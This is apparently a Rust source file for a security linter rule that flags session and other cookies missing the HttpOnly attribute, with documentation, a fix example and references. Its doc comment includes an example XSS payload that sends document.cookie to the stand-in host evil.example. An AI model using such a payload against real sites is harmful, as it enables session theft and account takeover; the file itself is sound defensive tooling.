use crate::diagnostic::{Diagnostic, Level};
use crate::lint::report::{Report, lint};
use crate::policy::{Form, SecurityPolicy};

lint! {
    /// # What it does
    ///
    /// Looks for `http_only: false`, and in an audited response for a cookie without `HttpOnly`. On a session cookie it is
    /// an error. The cookie of a CSRF token that scripts have to read is not reported.
    ///
    /// # Why it matters
    ///
    /// Without `HttpOnly`, every script in the page can read the cookie through `document.cookie`. A script that an
    /// attacker injects can then copy the session to the attacker's server, where it works until it expires. With
    /// `HttpOnly` the script can act only while the page is open.
    ///
    /// # Attack
    ///
    /// The attacker posts a comment that the site shows without escaping it:
    ///
    /// ```html
    /// <img src="x" onerror="fetch('https://evil.example/?' + encodeURIComponent(document.cookie))">
    /// ```
    ///
    /// Every user who reads the comment sends their session to `evil.example`.
    ///
    /// # Example
    ///
    /// ```text
    /// origin: "https://shop.example.com",
    /// cookies: {
    ///     session: { name: "__Host-session", max_age: 8h, signed, http_only: false },
    /// },
    /// csrf: { bind_to: session },
    /// ```
    ///
    /// # Fix
    ///
    /// ```text
    /// origin: "https://shop.example.com",
    /// cookies: {
    ///     session: { name: "__Host-session", max_age: 8h, signed },
    ///     csrf_token: { http_only: false },
    /// },
    /// csrf: { bind_to: session },
    /// ```
    ///
    /// # Allow
    ///
    /// Reasonable for a cookie that a script of the site has to read and that identifies no user; hardly ever for a
    /// session.
    ///
    /// ```text
    /// #[allow(cookie_missing_httponly, reason = "the session of the kiosk demo, which gives access to nothing")]
    /// session: { name: "__Host-session", max_age: 8h, signed, http_only: false },
    /// ```
    ///
    /// # References
    ///
    /// - [6265bis, section 4.1.2.6: the HttpOnly attribute](https://datatracker.ietf.org/doc/html/draft-ietf-httpbis-rfc6265bis#section-4.1.2.6)
    /// - [MDN, `Set-Cookie`: HttpOnly](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Set-Cookie#httponly)
    /// - [OWASP, Session Management: HttpOnly](https://cheatsheetseries.owasp.org/cheatsheets/Session_Management_Cheat_Sheet.html#httponly-attribute)
    Warn "a cookie that scripts can read",
    cwe [1004], asvs ["3.3.4"],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    for cookie in policy.cookies().filter(|cookie| !cookie.http_only().node && !cookie.is_csrf_token()) {
        let level = if cookie.is_session() { Level::Deny } else { Level::Warn };
        let message = format!("scripts can read {}", cookie.label());
        let finding = Diagnostic::finding(cookie.http_only().span, message)
            .help(match policy.form {
                Form::Declaration => "remove `http_only: false`; in a cookie declared as a string, add `HttpOnly`",
                Form::Response => "add `HttpOnly`",
            })
            .note("an injected script can send it to the attacker");
        report.push_at(level, finding);
    }
}
